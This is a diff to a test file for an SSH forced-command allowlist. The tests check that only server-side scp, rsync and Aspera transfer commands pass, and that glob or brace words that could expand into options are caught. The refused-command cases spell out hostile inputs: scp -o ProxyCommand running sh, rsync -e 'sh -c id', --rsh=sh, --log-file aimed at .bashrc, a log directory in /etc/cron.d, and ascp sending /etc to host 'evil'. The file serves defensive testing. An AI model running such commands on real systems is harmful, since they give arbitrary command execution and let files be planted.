@@ -6,6 +6,8 @@ import type { CommandPattern } from "../../src/config/mod.ts";
 const DEFAULTS: CommandPattern[] = [
   { kind: "exec", argv: ["ascp"] },
   { kind: "exec", argv: ["ascp4"] },
+  { kind: "exec", argv: ["async"] },
+  { kind: "exec", argv: ["ascmd"] },
   { kind: "exec", argv: ["scp"] },
   { kind: "exec", argv: ["rsync", "--server"] },
   { kind: "subsystem", name: "sftp" },
@@ -33,8 +35,28 @@ Deno.test("splitShellWords() splits like sh does for plain commands", async (t) 
   for (const [command, words] of cases) {
     await t.step(
       command || "(empty)",
-      () => assertEquals(splitShellWords(command), { ok: true, words }),
+      () => assertEquals(splitShellWords(command), { ok: true, words, mayBecomeOptions: [] }),
     );
+  }
+});
+
+Deno.test("splitShellWords() marks words the shell could expand into an option", async (t) => {
+  const cases: Array<[string, number[]]> = [
+    ["scp -f *", [2]],
+    ["scp -f ?x", [2]],
+    ["scp -f [-]x", [2]],
+    ["rsync --server . {--daemon,x}", [3]],
+    ["rsync -{-daemon,v}", [1]],
+    [`scp -f ''*`, [2]],
+    [`scp -f "-"*`, [2]],
+    ["scp -f ./* /data/*.txt a*b", []],
+    ["scp -f '*' \\* \"{a,b}\"", []],
+  ];
+  for (const [command, risky] of cases) {
+    await t.step(command, () => {
+      const split = splitShellWords(command);
+      assertEquals(split.ok && split.mayBecomeOptions, risky);
+    });
   }
 });
 
@@ -43,9 +65,14 @@ Deno.test("checkCommand() allows the default transfer commands", async (t) => {
     "scp -t /x",
     "scp -f /data/report.pdf",
     "ascp --mode=recv --user=bear /tmp",
-    "ascp4 -x",
+    "ascp4 --mode=send --user=bear -l 100m -k 2 /data",
     "rsync --server -logDtpre.iLsfxC . /data",
+    "rsync --server --sender -vlogDtpre.iLsfxCIvu --partial-dir .rsync-partial . /data/a /data/b",
     "scp -t '/dir with spaces'",
+    "scp -r -p -d -t -- -dash",
+    "scp -v -f /data/*.txt",
+    "ascmd",
+    "async --name=job -d /data --direction=push",
   ];
   for (const command of allowed) {
     await t.step(
@@ -79,6 +106,10 @@ Deno.test("checkCommand() refuses injection, other programs and shells", async (
     ["/usr/bin/scp -t /x", `command "/usr/bin/scp" is not allowed`],
     ["scpx -t /x", `command "scpx" is not allowed`],
     ["rsync -e sh x", `command "rsync" is not allowed`],
+    [
+      "scp -f *",
+      `command refused: "*" could expand into an option upstream (quote it, or start it with ./)`,
+    ],
     ["bash", `command "bash" is not allowed`],
     ["   ", "interactive shells are not allowed"],
   ];
@@ -112,4 +143,94 @@ Deno.test("checkCommand() with * allows anything, shells included", () => {
   assertEquals(checkCommand(any, { kind: "exec", command: "echo a; id" }), { allowed: true });
   assertEquals(checkCommand(any, { kind: "shell" }), { allowed: true });
   assertEquals(checkCommand(any, { kind: "subsystem", name: "x" }), { allowed: true });
+});
+
+Deno.test("checkCommand() refuses the options that make an allowed program run anything", async (t) => {
+  const refused: Array<[string, string]> = [
+    [
+      `scp -o 'ProxyCommand=sh -c "id>/tmp/p"' f x@host:/x`,
+      `scp option "-o" is refused: it sets ssh options such as ProxyCommand (only -t or -f with -d -p -r -v)`,
+    ],
+    [
+      "scp -S ./uploaded-script -t x:/y",
+      `scp option "-S" is refused: it names a program to run (only -t or -f with -d -p -r -v)`,
+    ],
+    ["scp f x@host:/x", "scp must be run with exactly one of -t or -f (the server side of a copy)"],
+    ["scp -t -f /x", "scp must be run with exactly one of -t or -f (the server side of a copy)"],
+    ["scp -t", "scp needs a path"],
+    ["scp -tP 2222 /x", `scp option "-P" is not allowed (only -t or -f with -d -p -r -v)`],
+    [
+      "scp -t /x -3",
+      `scp option "-3" is refused: it makes scp copy between two other hosts (only -t or -f with -d -p -r -v)`,
+    ],
+    [
+      "rsync --server --daemon --config=uploaded.conf .",
+      `rsync option "--daemon" is refused: a daemon's config can run commands (pre-xfer exec)`,
+    ],
+    [
+      "rsync --server -vlogDtpre.iLsfxC --log-file=/home/x/.bashrc . /data",
+      `rsync option "--log-file" is refused: it writes a file anywhere the account can`,
+    ],
+    [
+      "rsync --server -vlogDtprs . /data",
+      `rsync option "-s" is refused: the arguments would arrive over the protocol, unchecked`,
+    ],
+    ["rsync --server -e 'sh -c id' . /data", `rsync option "-e" has a value not allowed here`],
+    [
+      "rsync --server --rsh=sh . /data",
+      `rsync option "--rsh" is refused: it names a program to run`,
+    ],
+    [
+      "rsync --server --rsync-path=x . /data",
+      `rsync option "--rsync-path" is refused: it names a program to run`,
+    ],
+    ["rsync --server --daem . /data", `rsync option "--daem" is not allowed`],
+    ["rsync --server --partial=x . /data", `rsync option "--partial" is not allowed`],
+    ["rsync --server . /data --daemon", `rsync path "--daemon" starts with "-"`],
+    ["rsync --server -v /data", `rsync --server needs its "." argument`],
+    ["rsync --server -v x . /data", `rsync argument "x" comes before "."`],
+    [
+      "rsync --server . {--daemon,x}",
+      `command refused: "{--daemon,x}" could expand into an option upstream (quote it, or start it with ./)`,
+    ],
+    [
+      "ascp -i /home/x/.ssh/id --host=evil --mode=send /etc",
+      `ascp option "-i" is refused: it names a private key for an onward connection`,
+    ],
+    [
+      "ascp --mode=recv -L /etc/cron.d /tmp",
+      `ascp option "-L" is refused: it writes logs to a directory of the client's choice`,
+    ],
+    [
+      "ascp4 --keepalive --mode=send",
+      `ascp4 option "--keepalive" is refused: it opens a persistent session that reads commands`,
+    ],
+    ["ascp --unknown /x", `ascp option "--unknown" is not allowed`],
+    ["ascp -P x /x", `ascp option "-P" has a value not allowed here`],
+    [
+      "async -i key -N job",
+      `async option "-i" is refused: it names a private key for an onward connection`,
+    ],
+    ["ascmd -x", `ascmd takes no arguments, got "-x"`],
+  ];
+  for (const [command, reason] of refused) {
+    await t.step(command, () =>
+      assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), {
+        allowed: false,
+        reason: reason.startsWith("command refused: ") ? reason : `command refused: ${reason}`,
+      }));
+  }
+});
+
+Deno.test("checkCommand() checks a known program by its base name, others by their words only", () => {
+  const patterns: CommandPattern[] = [
+    { kind: "exec", argv: ["/usr/bin/scp"] },
+    { kind: "exec", argv: ["cat"] },
+  ];
+  assertEquals(checkCommand(patterns, { kind: "exec", command: "/usr/bin/scp -o X=y -t /x" }), {
+    allowed: false,
+    reason:
+      `command refused: scp option "-o" is refused: it sets ssh options such as ProxyCommand (only -t or -f with -d -p -r -v)`,
+  });
+  assertEquals(checkCommand(patterns, { kind: "exec", command: "cat -A /x" }), { allowed: true });
 });
